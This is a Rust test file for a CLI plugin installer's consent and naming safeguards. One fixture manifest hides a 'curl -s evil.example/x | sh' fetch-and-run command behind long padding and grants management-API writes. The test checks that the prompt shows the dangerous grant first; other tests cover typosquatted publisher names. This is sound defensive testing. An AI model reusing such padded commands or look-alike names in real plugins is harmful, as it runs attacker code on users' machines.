//! The user's consent: it covers everything that is installed, and its texts can't deceive.

use std::fs;

use host_base::Sha256;
use insta::assert_snapshot;

use crate::authoring::shown;
use crate::support::{Component, Machine, Session};

#[test]
fn an_engine_that_can_reach_nothing_is_asked_about_too() {
    let machine = Machine::new();
    machine.put("small.wasm", &Component::small());
    assert_snapshot!(shown(&machine.run("plugin install small.wasm")), @"
    Usage: acme/small
      `--engine acme/small`
    hint: `--accept-capabilities sha256:DIGEST`
    exit 2
    ");
    assert!(!machine.lockfile().exists());
    assert_eq!(machine.accepting("plugin install small.wasm").code, 0);
    // The same bytes need no new consent. Other bytes of the same name do, whatever their capabilities are.
    assert_eq!(machine.run("plugin install small.wasm").code, 0);
    let next = Component::small().replace("\"version\":\"0.1.0\"", "\"version\":\"0.2.0\"");
    machine.put("other.wasm", &next);
    assert_eq!(machine.accepting("plugin install other.wasm").code, 0);
}

#[test]
fn on_a_terminal_the_answer_is_no_until_it_is_typed() {
    let machine = Machine::new();
    machine.put("small.wasm", &Component::small());
    let install = |answers: [&str; 2]| {
        let mut session = Session::of(machine.program(), "plugin install small.wasm");
        session.wait_for("to accept that:");
        session.press(&format!("{}\n", answers[0]));
        if answers[0] == "yes" {
            session.wait_for("Enter for no:");
            session.press(&format!("{}\n", answers[1]));
        }
        session.end("warning:")
    };
    assert_eq!(install(["", ""]).code, 2);
    assert!(!machine.lockfile().exists());
    let run = install(["yes", ""]);
    let digest = Sha256::digest(Component::small().bytes()).to_string();
    assert_snapshot!(run.outcome().replace(&digest, "DIGEST"), @"
    stdout:
    acme/small 0.1.0 is installed, unsigned
    warning: 0.1.0 acme/small sha256:DIGEST
      - 
    note: `--engine acme/small`
    note: 3
    note: `yes`
    note: `auto` acme/small `all`
    exit 0
    ");
    let row = machine.run("plugin list -o json").item("acme/small");
    assert_eq!(row["defaultFor"], serde_json::json!([]));
    assert_eq!(machine.run("plugin remove small").code, 0);
    assert_eq!(install(["yes", "list"]).code, 0);
    let row = machine.run("plugin list -o json").item("acme/small");
    assert_eq!(row["defaultFor"], serde_json::json!(["list"]));
}

/// Returns a manifest that is longer than a screen, with its most dangerous part at the end.
fn long_manifest() -> String {
    let routes: Vec<_> = (0..60)
        .map(|at| format!("\"GET /api/v1/management/backups/page{at:02}/{{id}}\""))
        .collect();
    let quiet = "ls /opt/backup/. ".repeat(200);
    format!(
        r#"
id = "nice/viewer"
version = "1.0.0"
summary = "Shows backups"
[operations.detect]
[operations.list]
[operations.download]
[exec.look]
argv = ["/usr/bin/env", "sh", "-c", "{quiet}; curl -s evil.example/x | sh; echo {{folder}}"]
[endpoints.api]
select = "pod"
port = {{ numbers = [8081] }}
allow = [{}, "PUT /api/v1/management/users/{{name}}"]
auth = "basic"
"#,
        routes.join(", ")
    )
}

#[test]
fn nothing_that_is_granted_is_cut_and_the_worst_stands_first() {
    let machine = Machine::new();
    machine.put("hostile.wasm", &Component::hostile());
    fs::write(machine.folder.path().join("engine.toml"), long_manifest()).expect("written");
    let packed = machine.run("plugin pack hostile.wasm --replace --out hide.wasm");
    assert_eq!(packed.code, 0, "{}", packed.stderr);
    let refused = machine.run("plugin install hide.wasm");
    let inspected = machine.run("plugin inspect hide.wasm");
    let mut session = Session::of(machine.program(), "plugin install hide.wasm");
    session.wait_for("to accept that:");
    let asked = session.screen();
    session.press("no\n");
    assert_eq!(session.end("to accept that:").code, 2);
    let all = [
        ("pack", &packed.stdout),
        ("refusal", &refused.stderr),
        ("inspect", &inspected.stdout),
        ("question", &asked),
    ];
    for (what, text) in all {
        for granted in [
            "PUT /api/v1/management/users/{name}",
            "GET /api/v1/management/backups/page59/{id}",
            "; curl -s evil.example/x | sh; echo {folder}",
        ] {
            assert!(text.contains(granted), "{what} lacks {granted}: {text}");
        }
        let first = text
            .lines()
            .find(|line| line.trim_start().starts_with(['!', '-']));
        let first = first.unwrap_or_default().trim_start();
        assert!(first.starts_with("! [shell] run in"), "{what}: {first}");
    }
    let end: Vec<_> = asked.lines().rev().take(3).collect();
    assert_snapshot!(end[1], @"  These are 6 lines, 3 of them marked with `!` as dangerous: shell, credentials, writes.");
}

#[test]
fn names_that_deceive_are_refused_and_those_that_look_like_others_are_told() {
    let machine = Machine::new();
    let named = |id: &str| Component::small().replace("\"acme/small\"", &format!("\"{id}\""));
    let mut all = String::new();
    for id in ["acm/hivemq", "acme/kafka", "acme/local"] {
        machine.put("it.wasm", &named(id));
        all += &format!("{}\n", machine.run("plugin install it.wasm").reason());
        assert_eq!(machine.run("plugin test it.wasm").code, 11, "{id}");
    }
    fs::write(
        machine.folder.path().join("engine.toml"),
        "id = \"kubectl-br0ker/x\"\nversion = \"1.0.0\"\nsummary = \"x\"\n[operations.detect]\n[operations.list]\n",
    )
    .expect("written");
    all += &format!(
        "{}\n",
        machine.run("plugin pack it.wasm --replace").reason()
    );
    all += &machine.run("plugin new kubectl/vault").reason();
    assert_snapshot!(all, @"
    Conflict: acm/hivemq: its name `hivemq` is reserved
    hint: `kubectl broker plugin remove acm/hivemq`
    exit 11
    Conflict: acme/kafka: its name `kafka` is reserved
    hint: `kubectl broker plugin remove acme/kafka`
    exit 11
    Conflict: acme/local: its name `local` is reserved
    hint: `kubectl broker plugin remove acme/local`
    exit 11
    Conflict: kubectl-br0ker/x: its publisher `kubectl-br0ker` looks like `kubectl-broker`, which is reserved
    hint:
    exit 11
    Conflict: kubectl/vault: its publisher `kubectl` is reserved
    hint:
    exit 11
    ");
    assert!(!machine.lockfile().exists());

    machine.put("small.wasm", &Component::small());
    assert_eq!(machine.accepting("plugin install small.wasm").code, 0);
    for (id, other) in [
        ("acme/panel", false),
        ("acme/sma11", true),
        ("evil/small", true),
    ] {
        machine.put("it.wasm", &named(id));
        let refused = machine.run("plugin install it.wasm");
        let told = refused
            .stderr
            .contains("! [look-alike] it could be mistaken for acme/small");
        assert_eq!(told, other, "{id}: {}", refused.stderr);
    }
}
